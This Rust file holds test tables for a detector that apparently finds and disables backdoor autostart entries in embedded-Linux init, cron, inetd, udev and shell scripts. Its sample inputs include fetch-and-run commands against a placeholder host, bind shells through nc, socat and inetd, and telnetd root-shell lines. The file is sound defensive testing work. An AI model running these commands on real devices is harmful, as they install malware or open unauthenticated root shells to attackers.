//! The tables of lines that start programs, and of scripts that only seem to.

use crate::wall::judge::autostart::entry::{Does, Kind};

/// A file, its effect, and its later text; the same where nothing is found.
pub type Case = (Kind, &'static str, &'static [(u32, Does, &'static str)], &'static str);

use Does::{Fetch, Shell, Ssh, Telnet};
use Kind::{Cron, CronOfUsers, Inetd, Inittab, Interfaces, Mdev, Udev, Unit, Xinetd};

pub const TABLES: &[Case] = &[
    (
        Inittab,
        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
        &[(3, Telnet, "/usr/sbin/telnetd")],
        "::sysinit:/etc/init.d/rcS\r\n# ::respawn:telnetd\n# komainu: ::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
    ),
    (
        Inittab,
        "tn:2345:respawn:busybox telnetd -p 2323",
        &[(1, Telnet, "telnetd")],
        "# komainu: tn:2345:respawn:busybox telnetd -p 2323",
    ),
    (
        Inittab,
        "::sysinit:/etc/init.d/rcS; telnetd &\n",
        &[(1, Telnet, "telnetd")],
        "::sysinit:/etc/init.d/rcS; true &\n",
    ),
    (Inittab, "tn:2:off:/usr/sbin/telnetd\n::respawn:-/bin/sh\n:::\n::\nx", &[], ""),
    (
        Inetd,
        "#telnet stream tcp nowait root /x telnetd\ntelnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
        &[(2, Telnet, "in.telnetd")],
        "#telnet stream tcp nowait root /x telnetd\n# komainu: telnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n",
    ),
    (
        Inetd,
        "31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
        &[(1, Shell, "/bin/sh")],
        "# komainu: 31337 stream tcp nowait root /bin/sh sh -i\nftp stream tcp nowait root /sbin/ftpd ftpd",
    ),
    (
        Inetd,
        "0.0.0.0:telnet stream tcp nowait root /opt/odd odd\ntelnet",
        &[(1, Telnet, "/opt/odd"), (2, Telnet, "telnet")],
        "# komainu: 0.0.0.0:telnet stream tcp nowait root /opt/odd odd\n# komainu: telnet",
    ),
    (
        Xinetd,
        "defaults\n{\n}\nservice telnet\n{\n\tdisable = no\n\tserver = /usr/sbin/in.telnetd\n}\n",
        &[(4, Telnet, "/usr/sbin/in.telnetd")],
        "defaults\n{\n}\nservice telnet\n{\n# komainu: \tdisable = no\n\tserver = /usr/sbin/in.telnetd\n\tdisable = yes\n}\n",
    ),
    (
        Xinetd,
        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n}",
        &[(1, Telnet, "telnetd")],
        "service odd\n{\n server = /bin/busybox\n server_args = telnetd -i\n\tdisable = yes\n}",
    ),
    (Xinetd, "service telnet\n{\n disable = yes\n}\nservice x\n{\nserver = /y\n}\nservice telnet", &[], ""),
    (
        Cron,
        "# telnetd\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
        &[(2, Fetch, "wget"), (3, Telnet, "telnetd")],
        "# telnetd\n# komainu: */5 * * * * wget -qO- http://192.0.2.1/x | sh\n# komainu: @reboot telnetd\n0 3 * * * killall telnetd; reboot\n",
    ),
    (
        Cron,
        "* * * * * echo Zg== | base64 -d | busybox ash",
        &[(1, Fetch, "base64")],
        "# komainu: * * * * * echo Zg== | base64 -d | busybox ash",
    ),
    (
        CronOfUsers,
        "PATH=/bin\n@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n",
        &[(2, Fetch, "/tmp/x"), (3, Telnet, "telnetd")],
        "PATH=/bin\n# komainu: @daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n# komainu: * * * * * root telnetd\n",
    ),
    (
        Unit,
        "[Service]\n# ExecStart=telnetd\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\nExecStop=/bin/kill telnetd\n",
        &[(3, Telnet, "/usr/sbin/in.telnetd")],
        "[Service]\n# ExecStart=telnetd\nExecStart=-/bin/true \\\n  -h\nExecStop=/bin/kill telnetd\n",
    ),
    (
        Interfaces,
        "iface eth0 inet dhcp\n\tup telnetd -l /bin/sh\n\tpost-up ip link; telnetd &\n\tup ip link set eth0 up\n\tdescription telnetd\n",
        &[(2, Telnet, "telnetd"), (3, Telnet, "telnetd")],
        "iface eth0 inet dhcp\n# komainu: \tup telnetd -l /bin/sh\n\tpost-up ip link; true &\n\tup ip link set eth0 up\n\tdescription telnetd\n",
    ),
    (
        Udev,
        "# RUN+=\"telnetd\"\nACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/sbin/telnetd -l /bin/sh\"\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "# RUN+=\"telnetd\"\nACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/true -l /bin/sh\"\n",
    ),
    (
        Mdev,
        "null root:root 666\nttyUSB[0-9]* root:tty 660 @telnetd -p 99\nsd.* root:disk 660 */lib/mount.sh\n",
        &[(2, Telnet, "telnetd")],
        "null root:root 666\nttyUSB[0-9]* root:tty 660 @true -p 99\nsd.* root:disk 660 */lib/mount.sh\n",
    ),
];

/// A script, the lines found in it with the program that each names, and its later text; empty: it stays.
type ScriptCase = (&'static str, &'static [(u32, Does, &'static str)], &'static str);

/// Scripts of the shell.
pub const SCRIPTS: &[ScriptCase] = &[
    (
        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then /usr/sbin/telnetd -l /bin/login & fi\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "#!/bin/sh\nif [ -x /usr/sbin/telnetd ]; then true -l /bin/login & fi\n",
    ),
    (
        "nvram=1 nohup busybox \\\r\n  telnetd -p 2323 >/dev/null 2>&1 &\necho done",
        &[(1, Telnet, "telnetd")],
        "nvram=1 true busybox \\\r\n  telnetd -p 2323 >/dev/null 2>&1 &\necho done",
    ),
    (
        "start() {\n start-stop-daemon -S -q -b -x /usr/sbin/telnetd -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\ncase $1 in\nstart|stop) $1 ;;\nesac\nstart\n",
        &[(2, Telnet, "/usr/sbin/telnetd")],
        "start() {\n true -S -q -b -x /usr/sbin/telnetd -- -F\n}\nstop() {\n start-stop-daemon -K -x /usr/sbin/telnetd\n}\ncase $1 in\nstart|stop) $1 ;;\nesac\nstart\n",
    ),
    (
        "#!/bin/sh /etc/rc.common\nPROG=\"/usr/sbin/dropbear\" # ours\none() {\n\tprocd_set_param command \"${PROG}\" -F\n}\nstart_service() {\n\tconfig_foreach one dropbear\n}\n",
        &[(4, Ssh, "/usr/sbin/dropbear")],
        "#!/bin/sh /etc/rc.common\nPROG=\"/usr/sbin/dropbear\" # ours\none() {\n\ttrue command \"${PROG}\" -F\n}\nstart_service() {\n\tconfig_foreach one dropbear\n}\n",
    ),
    (
        "sh -c \"sleep 5; telnetd -l /bin/sh\" &\n(telnetd)\nx=`telnetd`\ny=\"$(telnetd -F)\"\n",
        &[(1, Telnet, "telnetd"), (2, Telnet, "telnetd"), (3, Telnet, "telnetd"), (4, Telnet, "telnetd")],
        "sh -c \"sleep 5; true -l /bin/sh\" &\n(true)\nx=`true`\ny=\"$(true -F)\"\n",
    ),
    (
        "tel\"\"net'd' -p 99 \n/sbin/te\0lnetd\n\"telnetd\" -x\n\\telnetd\n",
        &[
            (1, Telnet, "telnetd"),
            (2, Telnet, "/sbin/telnetd"),
            (3, Telnet, "telnetd"),
            (4, Telnet, "telnetd"),
        ],
        "true -p 99 \ntrue\ntrue -x\ntrue\n",
    ),
    // C2: the dot starts nothing.
    (
        ". /etc/default/dropbear\nsource /etc/default/telnetd\n[ -f /etc/default/sshd ] && . /etc/default/sshd\n",
        &[],
        "",
    ),
    // C3: an assignment alone starts nothing.
    (
        "hk_cfg_dir=/etc/dropbear\nLOCK=/var/lock/subsys/sshd\nrm -f $LOCK\nmkdir -p $hk_cfg_dir\nexport N=telnetd\n",
        &[],
        "",
    ),
    (
        "LOCK=/var/lock/sshd\nD=/usr/sbin/sshd\n$D -D && touch $LOCK\nrm -f $LOCK\n",
        &[(3, Ssh, "/usr/sbin/sshd")],
        "LOCK=/var/lock/sshd\nD=/usr/sbin/sshd\ntrue -D && touch $LOCK\nrm -f $LOCK\n",
    ),
    // C4: questions.
    (
        "/etc/init.d/dropbear enabled && echo\n/etc/init.d/dropbear running\n/etc/init.d/sshd status\nservice ssh status\nsystemctl is-active ssh\n\
         /etc/init.d/telnetd stop\n/etc/init.d/telnetd disable\nsystemctl disable --now ssh\n\
         /usr/sbin/sshd -t || exit 1\n( sshd -\\? 2>&1 | grep -q OpenSSH )\ndropbear -V\n",
        &[],
        "",
    ),
    (
        "/etc/init.d/dropbear restart\nservice ssh start\nsystemctl --no-block start telnet.socket\ninvoke-rc.d ssh restart\n",
        &[(1, Ssh, "/etc/init.d/dropbear"), (2, Ssh, "ssh"), (3, Telnet, "telnet.socket"), (4, Ssh, "ssh")],
        "true restart\ntrue ssh start\ntrue --no-block start telnet.socket\ntrue ssh restart\n",
    ),
    // C5: launchers and variables.
    (
        "taskset 2 utelnetd -p 23\nchrt -f 10 telnetd\nscript -qc \"telnetd -F\" /dev/null\nnice -n 5 telnetd\nsetsid telnetd\nenv A=b telnetd\n\
         timeout -t 9 telnetd\nflock /tmp/l telnetd\nsu root -c 'telnetd'\n",
        &[
            (1, Telnet, "utelnetd"),
            (2, Telnet, "telnetd"),
            (3, Telnet, "telnetd"),
            (4, Telnet, "telnetd"),
            (5, Telnet, "telnetd"),
            (6, Telnet, "telnetd"),
            (7, Telnet, "telnetd"),
            (8, Telnet, "telnetd"),
            (9, Telnet, "telnetd"),
        ],
        "true 2 utelnetd -p 23\ntrue -f 10 telnetd\nscript -qc \"true -F\" /dev/null\ntrue -n 5 telnetd\ntrue telnetd\ntrue A=b telnetd\n\
         true -t 9 telnetd\ntrue /tmp/l telnetd\nsu root -c 'true'\n",
    ),
    (
        "BB=/bin/busybox\n$BB telnetd -l /bin/sh\nfor s in telnetd; do $s; done\nCMD=\"nice telnetd -F\"\n$CMD &\n${D:-/usr/sbin/telnetd} -p 2\n",
        &[
            (2, Telnet, "telnetd"),
            (3, Telnet, "telnetd"),
            (5, Telnet, "telnetd"),
            (6, Telnet, "/usr/sbin/telnetd"),
        ],
        "BB=/bin/busybox\ntrue telnetd -l /bin/sh\nfor s in telnetd; do true; done\nCMD=\"nice telnetd -F\"\ntrue &\ntrue -p 2\n",
    ),
    (
        "go() {\n  \"$@\"\n}\nlog() { echo \"$@\"; }\ngo telnetd -F\nlog telnetd\nexec telnetd -F\n",
        &[(5, Telnet, "telnetd"), (7, Telnet, "telnetd")],
        "go() {\n  \"$@\"\n}\nlog() { echo \"$@\"; }\ntrue telnetd -F\nlog telnetd\nexec true -F\n",
    ),
    // What is text, a label, a comment, or never called.
    (
        "killall telnetd\necho \"starting telnetd; telnetd\"\n# telnetd\ntelnetd() { :; }\ncase $1 in\ntelnetd) x;;\n a|telnetd|b ) y ;;\n(telnetd) z\nesac\n\
         pidof telnetd && echo\nbusybox pkill telnetd\nls /usr/sbin/telnetd > telnetd\nN=telnetd\nrm 'telnetd'\n\
         cat <<END > /tmp/x\ntelnetd -F\nEND\ncat <<-'E D'\n\ttelnetd\n\tE D\n[ $# -gt ${#telnetd} ] && x=a#telnetd\n",
        &[],
        "",
    ),
    (
        "upgrade() {\n  telnetd\n  wget http://192.0.2.1/x -O /tmp/x && sh /tmp/x\n}\nmain() { other; }\nother() { main; }\nfunction f { telnetd; }\n",
        &[],
        "",
    ),
    (
        "a() { b; }\nb()\n{\n  telnetd\n}\nfunction f { telnetd; }\ntrap f EXIT\na\n",
        &[(4, Telnet, "telnetd"), (6, Telnet, "telnetd")],
        "a() { b; }\nb()\n{\n  true\n}\nfunction f { true; }\ntrap f EXIT\na\n",
    ),
    (
        "sh <<END\ntelnetd -F\nEND\necho END\n",
        &[(2, Telnet, "telnetd")],
        "sh <<END\ntrue -F\nEND\necho END\n",
    ),
    (
        "nc -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\nsocat TCP-LISTEN:9,fork EXEC:/bin/ash\ntcpsvd 0 99 sh -i\n",
        &[(1, Shell, "nc"), (3, Shell, "socat"), (4, Shell, "tcpsvd")],
        "true -l -p 4444 -e /bin/sh &\nnc ntp 123 < /dev/null\ntrue TCP-LISTEN:9,fork EXEC:/bin/ash\ntrue 0 99 sh -i\n",
    ),
    // C12: only the very file that was fetched is a sign.
    (
        "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n",
        &[(1, Fetch, "./b")],
        "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; true\n",
    ),
    (
        "for a in mips arm; do\n wget http://192.0.2.1/$a; chmod +x $a; ./$a\ndone\ncurl -s http://192.0.2.1/i | sh\nsh -c \"$(curl -fsSL http://192.0.2.1/i)\"\n\
         eval \"$(wget -qO- http://192.0.2.1/i)\"\ntftp -g -r x 192.0.2.1; chmod +x x; ./x\n\
         ftpget -u a -p b 192.0.2.1 /tmp/q q; cp /tmp/q /usr/bin/q; /usr/bin/q &\ncurl -o /tmp/r 192.0.2.1/r; nohup /tmp/r\n\
         wget -qO /tmp/s http://x/s; bash /tmp/s -y\n",
        &[
            (2, Fetch, "./mips"),
            (4, Fetch, "curl"),
            (5, Fetch, "curl"),
            (6, Fetch, "wget"),
            (7, Fetch, "./x"),
            (8, Fetch, "/usr/bin/q"),
            (9, Fetch, "/tmp/r"),
            (10, Fetch, "/tmp/s"),
        ],
        "for a in mips arm; do\n wget http://192.0.2.1/$a; chmod +x $a; true\ndone\ntrue -s http://192.0.2.1/i | sh\nsh -c \"$(true -fsSL http://192.0.2.1/i)\"\n\
         eval \"$(true -qO- http://192.0.2.1/i)\"\ntftp -g -r x 192.0.2.1; chmod +x x; true\n\
         ftpget -u a -p b 192.0.2.1 /tmp/q q; cp /tmp/q /usr/bin/q; true &\ncurl -o /tmp/r 192.0.2.1/r; true /tmp/r\n\
         wget -qO /tmp/s http://x/s; true /tmp/s -y\n",
    ),
    (
        "wget -O /tmp/list https://maker.example/list; chmod 644 /tmp/list\nwget -q http://x/ || echo no | sh\nchmod 777 /tmp/socket\n/tmp/x\n\
         wget -qO /tmp/news.json https://maker.example/news && sh /usr/lib/maker/news.sh /tmp/news.json\ncurl -s https://maker.example/v > /tmp/v; . /lib/functions.sh\n\
         curl -s http://x/y | grep sh\nwget http://x/z.tar && tar xf z.tar\n",
        &[],
        "",
    ),
];
